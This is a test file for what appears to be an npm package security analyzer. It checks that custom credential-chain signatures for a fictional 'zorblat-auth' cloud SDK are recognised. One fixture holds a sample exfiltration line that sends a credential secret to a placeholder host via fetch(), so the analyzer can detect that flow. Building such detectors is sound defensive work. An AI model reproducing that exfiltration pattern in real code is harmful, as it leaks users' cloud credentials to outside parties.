// signatures/sources.yaml credentialChains.js: a cloud SDK's credential chain is data; an
// entry added through a --signatures directory takes effect, one test per field.
import { describe, expect, it } from "vitest";
import { analyzeNpmPackage } from "../../src/analyzers/js/index.js";
import { loadSignatures } from "../../src/rules/signatures.js";
import { makePackage } from "../analyzers/js/helpers.js";
import { base, extraDir, loadError, sourcesYaml } from "./models-helpers.js";

const NOTE = "note: gets Zorblat Cloud credentials";
const chain = (fields: string) => loadSignatures([extraDir({ "sources.yaml": sourcesYaml("[]", "[]", `credentialChains:\n  js:\n    - { module: '^zorblat-auth$', ${NOTE}, ${fields} }\n`) })]);
const details = async (code: string, signatures: typeof base) =>
  (await analyzeNpmPackage(makePackage({ "index.js": `const z = require("zorblat-auth");\n${code}` }), signatures)).sources.map((s) => `${s.kind} ${s.detail} (${s.note})`);

describe("sources.yaml credentialChains.js", () => {
  it("classes + reads: new <class>() is an SDK object whose read resolves the credentials", async () => {
    const code = "(async () => { const t = await new z.Session().token(); })();\n";
    const fields = "classes: '^Session$', reads: '\\(\\)\\.token$'";
    expect(await details(code, base)).toEqual([]);
    expect(await details(code, chain("reads: '\\(\\)\\.token$'"))).toEqual([]);
    expect(await details(code, chain(fields))).toEqual(["cloud-credentials zorblat-auth Session().token (gets Zorblat Cloud credentials)"]);
  });

  it("factories: a call gives a provider; reads: calling it resolves them, a callback gets them second", async () => {
    const fields = "factories: '^fromVault$', reads: '^fromVault\\(\\)$'";
    expect(await details("(async () => { const c = await z.fromVault()(); })();\n", chain(fields))).toEqual(["cloud-credentials zorblat-auth fromVault() (gets Zorblat Cloud credentials)"]);
    const facts = await analyzeNpmPackage(makePackage({ "index.js": 'const z = require("zorblat-auth");\nz.fromVault()((e, c) => fetch("https://c.example.invalid/?k=" + c.secret));\n' }), chain(fields));
    expect(facts.flows.map((f) => `${f.source.detail} -> ${f.sink.channel}`)).toEqual(["zorblat-auth fromVault() -> http"]);
  });

  it("asyncFactories: a promise of an SDK object (then read)", async () => {
    const code = "new z.Auth().client().then((c) => c.headers());\n";
    expect(await details(code, chain("classes: '^Auth$', reads: '\\(\\)\\.headers$'"))).toEqual([]);
    expect(await details(code, chain("classes: '^Auth$', asyncFactories: '\\(\\)\\.client$', reads: '\\(\\)\\.headers$'"))).toEqual(["cloud-credentials zorblat-auth Auth().client().headers (gets Zorblat Cloud credentials)"]);
  });

  it("credentialClasses: new <class>() holds them; members: a member read is them", async () => {
    expect(await details("const c = new z.FileKeys();\n", chain("credentialClasses: 'Keys$'"))).toEqual(["cloud-credentials zorblat-auth new FileKeys() (gets Zorblat Cloud credentials)"]);
    expect(await details("const c = z.FileKeys();\n", chain("credentialClasses: 'Keys$'"))).toEqual([]);
    expect(await details("const c = z.settings.keys;\n", chain("members: '^settings\\.keys$'"))).toEqual(["cloud-credentials zorblat-auth settings.keys (gets Zorblat Cloud credentials)"]);
  });

  it("an entry no front-end can use is a load error naming file and line", () => {
    const python = loadError({ "sources.yaml": sourcesYaml("[]", "[]", "credentialChains:\n  js: []\n  python: []\n") });
    expect(python.message).toMatch(/sources\.yaml:5.*Unrecognized key: "python"/);
    const empty = loadError({ "sources.yaml": sourcesYaml("[]", "[]", `credentialChains:\n  js:\n    - { module: '^zorblat-auth$', ${NOTE} }\n`) });
    expect(empty.message).toMatch(/sources\.yaml:6.*means nothing to the JS front-end/);
  });
});
